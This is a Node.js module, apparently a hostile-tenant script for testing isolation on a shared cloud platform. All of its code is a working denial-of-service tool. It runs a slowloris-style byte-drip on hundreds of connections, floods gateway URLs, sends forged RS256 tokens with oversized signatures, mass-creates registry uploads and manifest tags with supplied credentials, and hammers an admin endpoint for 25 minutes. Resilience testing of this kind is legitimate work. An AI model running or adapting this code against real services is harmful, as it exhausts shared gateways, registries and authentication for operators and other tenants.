// What the hostile tenant does to what is shared, in the parts that it is given, until its pod ends. Every kind has a bound of its own.
const http = require('http')
const net = require('net')
const { setTimeout: sleep } = require('timers/promises')

const counts = {}
const until = Date.now() + 25 * 60 * 1000
let begun = false

function ask(url, { method = 'GET', headers = {}, body, timeout = 120000 } = {}) {
  return new Promise(resolve => {
    const request = http.request(url, { method, headers, agent: false, timeout }, response => {
      response.resume()
      response.on('end', () => resolve(response))
      response.on('error', () => resolve())
    })
    request.on('timeout', () => request.destroy())
    request.on('error', () => resolve())
    request.end(body)
  })
}

function forever(workers, pause, work) {
  for (let i = 0; i < workers; i++) {
    (async () => { while (Date.now() < until) { await work(i); await sleep(pause) } })()
  }
}

// A request whose body comes byte by byte, on a connection of its own.
function drip(target, host) {
  return new Promise(resolve => {
    const { hostname, port } = new URL(target)
    const socket = net.connect(port || 80, hostname)
    let timer
    socket.on('connect', () => {
      counts.connections++
      socket.write('GET / HTTP/1.1\r\nHost: ' + host + '\r\nContent-Length: 1000000\r\n\r\n')
      timer = setInterval(() => socket.write('x'), 5000)
    })
    socket.on('error', () => {})
    socket.on('data', () => {})
    socket.on('close', () => { clearInterval(timer); resolve() })
  })
}

const encoded = value => Buffer.from(JSON.stringify(value)).toString('base64url')

const attacks = {
  gateways (to) {
    Object.assign(counts, { waiting: 0, connections: 0, tokens: 0 })
    for (const url of to.waiting) forever(400, 200, () => { counts.waiting++; return ask(url) })
    forever(500, 200, () => drip(to.entrance, to.host))
    const token = encoded({ alg: 'RS256' }) + '.' + encoded({ iss: to.issuer, sub: 'me' }) + '.' + Buffer.alloc(512, 1).toString('base64url')
    forever(8, 50, () => { counts.tokens++; return ask(to.entrance, { headers: { host: to.tokens, authorization: 'Bearer ' + token } }) })
  },
  events (to) {
    counts.events = 0
    forever(1, 500, () => {
      const id = crypto.randomUUID()
      const headers = { 'ce-specversion': '1.0', 'ce-id': id, 'ce-type': to.type, 'ce-source': to.source, 'content-type': 'application/json' }
      counts.events++
      return ask(to.publish, { method: 'POST', headers, body: '{}' })
    })
  },
  registry (to) {
    Object.assign(counts, { uploads: 0, tags: 0 })
    const authorization = 'Basic ' + Buffer.from(to.user + ':' + to.password).toString('base64')
    const repository = to.registry + '/v2/' + to.repository
    forever(8, 20, () => { counts.uploads++; return ask(repository + '/blobs/uploads/', { method: 'POST', headers: { authorization } }) })
    forever(4, 20, () => {
      const body = JSON.stringify({ schemaVersion: 2, mediaType: 'application/vnd.oci.image.index.v1+json', manifests: [], annotations: { n: String(counts.tags++) } })
      const headers = { authorization, 'content-type': 'application/vnd.oci.image.index.v1+json', 'content-length': body.length }
      return ask(repository + '/manifests/tag-' + counts.tags, { method: 'PUT', headers, body })
    })
  },
  admin (to) {
    counts.admin = 0
    forever(8, 50, () => { counts.admin++; return ask(to.admin, { headers: { authorization: 'Bearer ' + to.token } }) })
  }
}

function begin (to) {
  for (const part of to.parts) attacks[part]?.(to)
}

module.exports.main = event => {
  const to = event.data?.start
  if (to && !begun) { begun = true; begin(to) }
  return counts
}
